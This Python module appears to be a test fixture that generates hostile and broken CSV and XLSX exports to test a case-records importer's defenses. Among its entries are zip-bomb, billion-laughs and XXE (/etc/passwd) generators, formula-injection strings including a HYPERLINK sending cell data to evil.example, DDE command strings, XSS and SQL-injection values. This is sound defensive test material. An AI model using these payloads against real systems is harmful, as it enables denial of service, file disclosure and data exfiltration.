"""Hostile and broken exports, generated (never committed): each entry builds its bytes on demand.

Every CSV speaks the test mapping below (a `cases` export with English headers). `expect` is what the importer
must do: "refused" (one clear sentence, warehouse untouched), "loaded" (good rows in, bad rows quarantined in
`rejects`; a bad value of a row that loads is set aside there), or "either" (both are acceptable; the invariants
still apply). `rejected` is the exact number of rejected rows when the file loads.
"""

from __future__ import annotations

import codecs
import gzip
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

MAPPING = """
[options]
table = "cases"
source_system = "hostile_test"
datetime_formats = ["%Y-%m-%d %H:%M:%S", "%Y-%m-%d"]

[columns]
case_id = "case_no"
received_at = "received"
closed_at = "closed"
status = "state"
matter = "matter"
grid_id = "grid"
visits = "visits"
"""
HEADER = "case_no,received,closed,state,matter,grid,visits"
ID_NUMBER, PHONE = "110101199003071234", "13812345678"


def row(
    case="h-1",
    received="2026-01-05 09:00:00",
    closed="2026-01-06 10:00:00",
    state="closed",
    matter="低保申请",
    grid="g01",
    visits="1",
) -> str:
    return ",".join(_quote(v) for v in (case, received, closed, state, matter, grid, visits))


def _quote(value: str) -> str:
    if any(c in value for c in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv(*rows: str, header: str = HEADER, newline: str = "\n") -> str:
    return newline.join([header, *rows]) + newline


def good_csv() -> bytes:
    return csv(row(), row(case="h-2", grid="g02")).encode()


def xlsx(rows: list[list], *, formulas: dict[tuple[int, int], str] | None = None) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("cases")
    date_format = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    for r, values in enumerate([HEADER.split(","), *rows]):
        for c, value in enumerate(values):
            if isinstance(value, (int, float)) and c in (1, 2):
                sheet.write_number(r, c, value, date_format)  # an Excel serial date
            else:
                sheet.write(r, c, value)
    for (r, c), formula in (formulas or {}).items():
        sheet.write_formula(r, c, formula)
    book.close()
    return buffer.getvalue()


def good_xlsx() -> bytes:
    return xlsx([["x-1", "2026-01-05 09:00:00", "2026-01-06 10:00:00", "closed", "低保申请", "g01", "1"]])


def _replace_in_zip(data: bytes, member: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, content if info.filename == member else src.read(info.filename))
    return out.getvalue()


def _sheet_xml(body: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + body
        + b"</sheetData></worksheet>"
    )


def _inline_row(values: list[str]) -> bytes:
    """A sheet row without cell references: readers number such rows and cells in order."""
    cells = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values)
    return f"<row>{cells}</row>".encode()


def zip_bomb(uncompressed_mb: int = 1024, zip64: bool = True) -> bytes:
    """A valid-looking workbook (~3 MB) whose sheet XML inflates to `uncompressed_mb` MB of rows."""
    header = _inline_row(HEADER.split(","))
    one = _inline_row(["b-1", "2026-01-05 09:00:00", "", "received", "a" * 40, "g01", "1"])
    block = one * ((1 << 20) // len(one))
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good_xlsx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=zip64) as sheet:
            sheet.write(_sheet_xml(b"")[: -len(b"</sheetData></worksheet>")] + header)
            for _ in range(uncompressed_mb):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def lying_zip_bomb() -> bytes:
    """The zip bomb (512 MB of sheet XML) with its size in the zip directory and local header rewritten to 2 KB,
    so that a check of the declared sizes alone lets it through."""
    data = bytearray(zip_bomb(512, zip64=False))
    name = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo(name.decode()).header_offset
    data[local + 22 : local + 26] = (2048).to_bytes(4, "little")  # local header: uncompressed size
    central = data.find(b"PK\x01\x02", 0)
    while data[central + 46 : central + 46 + len(name)] != name:
        central = data.find(b"PK\x01\x02", central + 4)
    data[central + 24 : central + 28] = (2048).to_bytes(4, "little")  # central directory: uncompressed size
    return bytes(data)


def billion_laughs() -> bytes:
    entities = (
        b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
        )
        + b"]>"
    )
    body = _inline_row(HEADER.split(",")) + _inline_row(
        ["l-1", "2026-01-05 09:00:00", "", "received", "&amp;", "g01", "1"]
    ).replace(b"&amp;", b"&lol9;")
    return _replace_in_zip(good_xlsx(), "xl/worksheets/sheet1.xml", _sheet_xml(body, entities))


def external_entity() -> bytes:
    doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = _inline_row(HEADER.split(",")) + _inline_row(
        ["e-1", "2026-01-05 09:00:00", "", "received", "&amp;", "g01", "1"]
    ).replace(b"&amp;", b"&xxe;")
    return _replace_in_zip(good_xlsx(), "xl/worksheets/sheet1.xml", _sheet_xml(body, doctype))


def _zip_of(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(name, content)
    return out.getvalue()


def _junk(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    expect: str = "refused"  # "refused" | "loaded" | "either"
    rejected: int | None = None  # rows quarantined when it loads
    suffix: str = ".csv"
    file_name: str | None = None  # a hostile file name instead of <name><suffix>
    auto_detect: bool = False  # import without the test mapping (built-in detection)
    forbidden: tuple[str, ...] = ()  # text that must appear nowhere in the warehouse afterwards
    isolated: bool = False  # import in a memory-limited subprocess (a reader without a guard could eat the RAM)


def _b(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


_MIXED = csv(row()).encode() + row(case="h-2", matter="残疾人两项补贴").encode("gbk") + b"\n"
_BAD_SHEET = _sheet_xml(b'<row><c t="inlineStr"><is><t>case_no')

CORPUS: list[Hostile] = [
    # --- encodings -----------------------------------------------------------------------------------------
    Hostile("utf16le_without_bom", _b(csv(row()), "utf-16-le")),
    Hostile("utf16_with_bom", _b(csv(row()), "utf-16"), "loaded", rejected=0),
    Hostile("utf16_bom_then_junk", lambda: codecs.BOM_UTF16_LE + b"\x00\xd8a\x00"),
    Hostile("utf32", _b(csv(row()), "utf-32")),
    Hostile("gb18030", _b(csv(row(matter="灵活就业社保补贴")), "gb18030"), "loaded", rejected=0),
    Hostile("mixed_utf8_and_gbk", lambda: _MIXED),  # would load as mojibake: must be refused
    Hostile("latin1", _b(csv(row(matter="café crème")), "latin-1")),
    Hostile("shift_jis", _b(csv(row(matter="申請書の提出")), "shift_jis"), "either"),
    Hostile("big5", _b(csv(row(matter="低收入戶申請")), "big5"), "either"),
    Hostile("utf8_bom_then_gbk", lambda: codecs.BOM_UTF8 + csv(row()).encode() + "低保".encode("gbk")),
    Hostile("ebcdic", _b(csv(row(matter="relief")), "cp500")),
    # --- truncated -----------------------------------------------------------------------------------------
    Hostile(
        "csv_cut_inside_quotes",
        lambda: (csv(row()) + 'h-2,2026-01-05 09:00:00,,received,"unfinished').encode(),
        "either",
        rejected=1,
    ),
    Hostile("csv_cut_mid_row", lambda: (csv(row()) + "h-2,2026-01-05 09:00:00").encode(), "loaded", rejected=1),
    Hostile("xlsx_cut_in_half", lambda: good_xlsx()[: len(good_xlsx()) // 2], suffix=".xlsx"),
    Hostile("xlsx_first_100_bytes", lambda: good_xlsx()[:100], suffix=".xlsx"),
    Hostile("xlsx_without_central_directory", lambda: good_xlsx()[:-22], suffix=".xlsx"),
    Hostile("zip_that_is_not_a_workbook", lambda: _zip_of("readme.txt", b"hello"), suffix=".xlsx"),
    Hostile(
        "xlsx_with_broken_sheet_xml",
        lambda: _replace_in_zip(good_xlsx(), "xl/worksheets/sheet1.xml", _BAD_SHEET),
        suffix=".xlsx",
    ),
    # --- binary junk -----------------------------------------------------------------------------------------
    Hostile("random_bytes", lambda: _junk(1, 8192)),
    Hostile("random_bytes_without_nul", lambda: bytes(b or 1 for b in _junk(2, 8192))),
    Hostile("png_named_csv", lambda: b"\x89PNG\r\n\x1a\n" + _junk(3, 2048)),
    Hostile("elf_named_csv", lambda: b"\x7fELF\x02\x01\x01\x00" + _junk(4, 2048)),
    Hostile("pdf_named_csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + _junk(5, 2048)),
    Hostile("gzip_named_csv", lambda: gzip.compress(good_csv(), mtime=0)),
    Hostile("ole2_signature_then_junk", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _junk(6, 4096), suffix=".xls"),
    Hostile("csv_named_xlsx", good_csv, "loaded", rejected=0, suffix=".xlsx"),
    # --- size bombs ------------------------------------------------------------------------------------------
    Hostile("xlsx_zip_bomb", zip_bomb, suffix=".xlsx", isolated=True),
    Hostile("xlsx_zip_bomb_with_lying_sizes", lying_zip_bomb, suffix=".xlsx", isolated=True),
    Hostile("xlsx_billion_laughs", billion_laughs, suffix=".xlsx", isolated=True),
    Hostile("xlsx_external_entity", external_entity, suffix=".xlsx", forbidden=("root:x:0:0",)),
    Hostile(
        "header_of_100000_columns",
        lambda: csv(row() + ",x" * 100_000, header=HEADER + "".join(f",extra{i}" for i in range(100_000))).encode(),
        "either",
    ),
    Hostile("field_of_50_mb", lambda: csv(row(matter="长" * ((50 << 20) // 3))).encode(), "either"),
    Hostile("a_million_blank_lines", lambda: (HEADER + "\n" * 1_000_000).encode()),
    Hostile("one_10_mb_line", lambda: b"a" * (10 << 20), auto_detect=True),
    Hostile("a_million_commas", lambda: (HEADER + "\n" + ",,,,,,\n" * 200_000).encode()),
    # --- dates and numbers -----------------------------------------------------------------------------------
    Hostile("year_9999", _b(csv(row(), row(case="h-2", received="9999-12-31 23:59:59", closed=""))), "loaded", 1),
    Hostile("year_0", _b(csv(row(), row(case="h-2", received="0000-01-01 00:00:00", closed=""))), "loaded", 1),
    Hostile("negative_year", _b(csv(row(), row(case="h-2", received="-0001-01-01", closed=""))), "loaded", 1),
    Hostile("february_30", _b(csv(row(), row(case="h-2", received="2026-02-30 10:00:00", closed=""))), "loaded", 1),
    Hostile(
        "closed_before_received",
        _b(csv(row(), row(case="h-2", received="2026-01-05 09:00:00", closed="2025-01-01 00:00:00"))),
        "loaded",
        0,
    ),  # the closing time is set aside (NULL, listed in rejects) and the case loads
    Hostile("epoch_seconds_as_date", _b(csv(row(), row(case="h-2", received="1767600000", closed=""))), "loaded", 1),
    Hostile(
        "excel_serial_beyond_9999",
        lambda: xlsx(
            [["s-1", 2958466.5, "", "received", "x", "g01", "1"], ["s-2", 46027.4, "", "received", "x", "g01", "1"]]
        ),
        "either",
        suffix=".xlsx",
    ),
    Hostile(
        "excel_serial_after_2262",
        lambda: xlsx(
            [["s-1", 200000, "", "received", "x", "g01", "1"], ["s-2", 46027.4, "", "received", "x", "g01", "1"]]
        ),
        "loaded",
        1,
        suffix=".xlsx",
    ),  # 2447-07-30: beyond pandas' nanosecond range, rejected as implausible
    Hostile(
        "excel_negative_serial",
        lambda: xlsx([["s-1", -5, "", "received", "x", "g01", "1"], ["s-2", 46027.4, "", "received", "x", "g01", "1"]]),
        "either",
        suffix=".xlsx",
    ),
    Hostile("negative_counts", _b(csv(row(), row(case="h-2", visits="-5"))), "loaded", 0),  # visits set aside
    Hostile(
        "huge_numbers",
        _b(csv(row(), row(case="h-2", visits="99999999999999999999999"), row(case="h-3", visits="1e308"))),
        "loaded",
        0,
    ),  # visits set aside
    Hostile(
        "nan_and_infinity", _b(csv(row(), row(case="h-2", visits="NaN"), row(case="h-3", visits="-inf"))), "loaded", 0
    ),  # visits set aside
    # --- injection -------------------------------------------------------------------------------------------
    Hostile("formula_hyperlink", _b(csv(row(matter='=HYPERLINK("http://evil.example/?"&A1,"点此")'))), "loaded", 0),
    Hostile("formula_cmd", _b(csv(row(matter="+cmd|' /C calc'!A0"))), "loaded", 0),
    Hostile("formula_at_sum", _b(csv(row(matter="@SUM(1+1)*cmd|' /C calc'!A0"))), "loaded", 0),
    Hostile("formula_minus", _b(csv(row(matter="-1+1", grid="-2+3"))), "loaded", 0),
    Hostile("formula_after_tab_and_cr", _b(csv(row(matter="\t=1+1"), row(case="h-2", matter="\r=1+1"))), "loaded", 0),
    Hostile("formula_as_case_id", _b(csv(row(case="=1+2"))), "loaded", 0),
    Hostile("formula_as_header", _b(csv(row() + ",x", header=HEADER + ",=cmd|' /C calc'!A0")), "loaded", 0),
    Hostile(
        "xlsx_real_formula_cells",
        lambda: xlsx(
            [["f-1", "2026-01-05 09:00:00", "", "received", "x", "g01", "1"]],
            formulas={(1, 4): '=HYPERLINK("http://evil.example","x")', (1, 5): "=1+1"},
        ),
        "loaded",
        0,
        suffix=".xlsx",
    ),
    Hostile("html_script", _b(csv(row(matter="<script>alert(1)</script>"))), "loaded", 0),
    Hostile("html_img_onerror", _b(csv(row(matter='<img src=x onerror="alert(1)">'))), "loaded", 0),
    Hostile("markdown_javascript_link", _b(csv(row(matter="[点我](javascript:alert(1))"))), "loaded", 0),
    Hostile("sql_in_values", _b(csv(row(case="x'); drop table cases; --", matter="' or 1=1 --"))), "loaded", 0),
    Hostile("sql_in_header", _b(csv(row() + ",x", header=HEADER + ',"a""; drop table cases; --"')), "loaded", 0),
    Hostile("hostile_file_name", good_csv, "loaded", 0, file_name="'; drop table import_log; --<script>.csv"),
    Hostile("bidi_and_zero_width", _b(csv(row(grid="g01\u202e\u200b"))), "either"),
    Hostile("case_id_of_1_mb", _b(csv(row(case="c" * (1 << 20)))), "either"),
    Hostile(
        "big_field_and_multi_line_field", _b(csv(row(matter="m" * (1 << 20)), row(case="h-2", matter="a\nb"))), "either"
    ),
    Hostile(
        "personal_data_in_headers",
        _b(f"{ID_NUMBER},{PHONE},张三\n1,2,3\n"),
        auto_detect=True,
        forbidden=(ID_NUMBER, PHONE),
    ),
    # --- NUL bytes and line endings --------------------------------------------------------------------------
    Hostile("nul_inside_a_field", lambda: csv(row(matter="lo\x00w")).encode()),
    Hostile("nul_at_the_end", lambda: good_csv() + b"\x00"),
    Hostile("crlf_line_endings", _b(csv(row(), row(case="h-2"), newline="\r\n")), "loaded", 0),
    Hostile("cr_only_line_endings", _b(csv(row(), row(case="h-2"), newline="\r")), "either"),
    Hostile(
        "mixed_line_endings", lambda: (HEADER + "\r\n" + row() + "\n" + row(case="h-2") + "\r\n").encode(), "loaded", 0
    ),
    Hostile("multi_line_quoted_field", _b(csv(row(matter="第一行\n第二行\r\n第三行"))), "loaded", 0),
    # --- empty and malformed structure -----------------------------------------------------------------------
    Hostile("empty", lambda: b""),
    Hostile("whitespace_only", lambda: b" \n\t\r\n  \n"),
    Hostile("bom_only", lambda: codecs.BOM_UTF8),
    Hostile("headers_only", _b(HEADER + "\n")),
    Hostile("headers_then_blank_lines", _b(HEADER + "\r\n\r\n\r\n")),
    Hostile("duplicate_headers", _b(csv(row() + ",h-9", header=HEADER + ",case_no"))),
    Hostile("blank_headers", _b(",,,,,,\n" + row() + "\n")),
    Hostile("ragged_rows", _b(csv(row(), row(case="h-2") + ",extra,fields", "h-3,2026-01-05")), "loaded", 2),
    Hostile("stray_quote_at_start", _b(csv('"' + row()))),
    Hostile("semicolon_delimited", _b(csv(row().replace(",", ";"), header=HEADER.replace(",", ";"))), "loaded", 0),
    Hostile("duplicate_case_ids", _b(csv(row(), row())), "loaded", 1),
    Hostile("every_row_bad", _b(csv(row(state="exploded"), row(case="h-2", state="exploded"))), "either"),
    Hostile(
        "empty_xlsx_sheet",
        lambda: _replace_in_zip(good_xlsx(), "xl/worksheets/sheet1.xml", _sheet_xml(b"")),
        suffix=".xlsx",
    ),
]
